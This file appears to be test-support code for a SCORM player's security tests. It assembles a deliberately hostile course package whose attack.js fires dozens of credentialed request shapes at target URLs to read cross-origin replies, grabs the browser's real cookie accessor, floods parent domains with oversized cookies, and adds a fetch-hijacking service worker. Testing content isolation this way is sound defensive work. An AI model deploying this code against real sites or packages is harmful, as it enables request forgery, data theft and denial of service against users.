import { scormPackage } from '../support/packages';

/** One way to send a request to `url`. Answers with what of the reply could be read, "" when nothing could. */
type Shape = string;

const CORS = `async (init) => { const reply = await fetch(url, init); return reply.type === 'opaque' ? '' : reply.text(); }`;
const body = { form: `new URLSearchParams('a=1')`, text: `'a=1'`, json: `'{"a":1}'`, multipart: `fields()` };
const json = `headers: { 'content-type': 'application/json' }, body: ${body.json}`;

const FETCHES = [
  `{ credentials: 'include' }`,
  `{ method: 'HEAD', credentials: 'include' }`,
  `{ method: 'OPTIONS', credentials: 'include' }`,
  `{ method: 'POST', credentials: 'include', body: ${body.form} }`,
  `{ method: 'POST', credentials: 'include', body: ${body.text} }`,
  `{ method: 'POST', credentials: 'include', body: ${body.multipart} }`,
  `{ method: 'POST', credentials: 'include', ${json} }`,
  `{ method: 'PUT', credentials: 'include', ${json} }`,
  `{ method: 'PATCH', credentials: 'include', ${json} }`,
  `{ method: 'DELETE', credentials: 'include' }`,
  `{ credentials: 'omit' }`,
  `{ method: 'POST', credentials: 'omit', body: ${body.form} }`,
  `{ mode: 'no-cors', credentials: 'include' }`,
  `{ mode: 'no-cors', credentials: 'include', headers: { range: 'bytes=0-10' } }`,
  `{ mode: 'no-cors', method: 'POST', credentials: 'include', body: ${body.form} }`,
  `{ mode: 'no-cors', method: 'POST', credentials: 'include', body: ${body.text} }`,
  `{ mode: 'no-cors', method: 'POST', credentials: 'include', body: ${body.multipart} }`,
  `{ mode: 'no-cors', method: 'POST', credentials: 'include', body: new Blob(['a=1']) }`,
  `{ mode: 'same-origin', credentials: 'include' }`,
  `{ credentials: 'include', redirect: 'manual' }`,
  `{ credentials: 'include', headers: { 'x-requested-with': 'XMLHttpRequest', 'x-http-method-override': 'DELETE' } }`,
  `{ method: 'POST', credentials: 'include', referrer: '', referrerPolicy: 'unsafe-url', body: ${body.form} }`,
  `{ method: 'POST', mode: 'no-cors', credentials: 'include', keepalive: true, body: ${body.text} }`,
].map((init): Shape => `(${CORS})(${init})`);

const XHRS = [
  ['GET', 'null', ''],
  ['POST', body.form, ''],
  ['POST', body.json, 'application/json'],
  ['POST', body.text, 'text/plain'],
  ['PUT', body.json, 'application/json'],
  ['DELETE', 'null', ''],
].map(([method, sent, type]): Shape => `xhr('${method}', ${sent}, '${type}')`);

const BEACONS = [body.text, body.form, body.multipart, `new Blob([${body.json}], { type: 'application/json' })`].map(
  (sent): Shape => `(navigator.sendBeacon(url, ${sent}), '')`,
);

const FORMS = [
  ['get', 'application/x-www-form-urlencoded'],
  ['post', 'application/x-www-form-urlencoded'],
  ['post', 'multipart/form-data'],
  ['post', 'text/plain'],
].map(([method, type]): Shape => `form('${method}', '${type}')`);

const ELEMENTS = [
  `element('img', 'src')`,
  `element('script', 'src')`,
  `element('link', 'href', { rel: 'stylesheet' })`,
  `framed()`,
  `element('object', 'data')`,
  `element('video', 'src')`,
  `new Promise((done) => { const source = new EventSource(url, { withCredentials: true }); source.onmessage = (event) => done(event.data); source.onerror = () => { source.close(); done(''); }; })`,
  `new Promise((done) => { const socket = new WebSocket(url.replace('http', 'ws')); socket.onmessage = (event) => done(String(event.data)); socket.onerror = () => done(''); })`,
];

/** More than forty. */
export const SHAPES: readonly Shape[] = [...FETCHES, ...XHRS, ...BEACONS, ...FORMS, ...ELEMENTS];

const ATTACK = `
const fields = () => { const form = new FormData(); form.append('a', '1'); return form; };
const readable = (frame) => { try { return frame.contentDocument?.body?.innerText ?? ''; } catch { return ''; } };
/** Frames that show what may not be looked into: to make one costs as much as to show something else in it. */
const closedFrames = [];
const isClosed = (frame) => { try { return frame.contentDocument === null; } catch { return true; } };
const aFrame = () => {
  const known = closedFrames.pop();
  if (known) return known;
  const frame = document.createElement('iframe');
  frame.name = 'target-' + Math.random();
  document.body.append(frame);
  return frame;
};
function tools(url) {
  const xhr = (method, sent, type) => new Promise((done) => {
    const request = new XMLHttpRequest();
    request.open(method, url);
    request.withCredentials = true;
    if (type) request.setRequestHeader('content-type', type);
    request.onload = () => done(request.responseText);
    request.onerror = () => done('');
    request.send(sent);
  });
  const gone = (node, read, away = () => node.remove()) => new Promise((done) => {
    const end = (event) => {
      clearTimeout(late);
      node.onload = node.onerror = null;
      const text = read();
      setTimeout(away, 0, event);
      done(text);
    };
    node.onload = end;
    node.onerror = end;
    const late = setTimeout(end, 4000);
  });
  const shown = (frame) => gone(frame, () => readable(frame), (loaded) => loaded && isClosed(frame) ? closedFrames.push(frame) : frame.remove());
  const element = (name, attribute, more = {}) => {
    const node = document.createElement(name);
    Object.assign(node, more);
    const result = gone(node, () => readable(node));
    node.setAttribute(attribute, url);
    document.body.append(node);
    return result;
  };
  const framed = () => {
    const frame = aFrame();
    const result = shown(frame);
    frame.src = url;
    return result;
  };
  const form = (method, type) => {
    const frame = aFrame();
    const node = document.createElement('form');
    Object.assign(node, { method, enctype: type, action: url, target: frame.name });
    node.innerHTML = '<input name="a" value="1">';
    document.body.append(node);
    const result = shown(frame);
    node.submit();
    node.remove();
    return result;
  };
  return { xhr, element, framed, form };
}
/** The browser's own cookies, whatever the player has put in their place: a frame that has just been made has them. */
window.realCookies = () => {
  const frame = document.createElement('iframe');
  document.body.append(frame);
  const { get, set } = Object.getOwnPropertyDescriptor(frame.contentWindow.Document.prototype, 'cookie');
  return { get: () => get.call(document), set: (line) => set.call(document, line) };
};
/** As many and as large as a browser takes, for this host and the domains above it. */
window.bombWithCookies = () => {
  const cookies = realCookies();
  const labels = location.hostname.split('.');
  const domains = labels.map((_, at) => labels.slice(at).join('.')).slice(0, -1);
  for (let at = 0; at < 250; at++) {
    const domain = domains[at % domains.length];
    cookies.set('bomb' + at + '=' + 'x'.repeat(4060) + '; path=/; max-age=99999' + (domain ? '; domain=' + domain : ''));
  }
  return cookies.get().length;
};
/**
 * Fires shapes at every address, at some addresses at a time: all of them, or at each address one of so many in turn.
 * Answers with what could be read of each.
 */
window.attackAll = async (urls, shapes, turns, abreast) => {
  const found = urls.map(() => []);
  const sockets = [];
  const patience = (promise) => Promise.race([promise, new Promise((done) => setTimeout(done, 6000, ''))]);
  const attack = async (url, at) => {
    const { xhr, element, framed, form } = tools(url);
    const fire = (shape) => Function('url', 'xhr', 'element', 'framed', 'form', 'fields', 'return ' + shape)(url, xhr, element, framed, form, fields);
    const attempt = async (shape) => {
      try { const text = await patience(fire(shape)); if (text) found[at].push([shape, text]); } catch {}
    };
    const isSocket = (shape) => shape.includes('WebSocket');
    // A browser lets more and more time pass between sockets that fail: the next address does not wait for them.
    const now = shapes.filter((_, nth) => (nth + at) % turns === 0);
    sockets.push(...now.filter(isSocket).map(attempt));
    await Promise.all(now.filter((shape) => !isSocket(shape)).map(attempt));
  };
  const waiting = urls.entries();
  await Promise.all(Array.from({ length: abreast }, async () => { for (const [at, url] of waiting) await attack(url, at); }));
  await Promise.all(sockets);
  return found;
};
`;

/** A package that does nothing of what it should. */
export const hostilePackage = (): Promise<Buffer> =>
  scormPackage({
    title: 'Free golf balls',
    scos: [{ id: 'one', href: 'one.html' }],
    files: {
      'one.html': `<!doctype html><title>Golf</title><h1>Golf</h1><script src="attack.js"></script>`,
      'attack.js': ATTACK,
      'taken.js': 'window.taken = 1;',
      'worker.js': `self.addEventListener('fetch', (event) => event.respondWith(new Response('mine')));`,
    },
  });
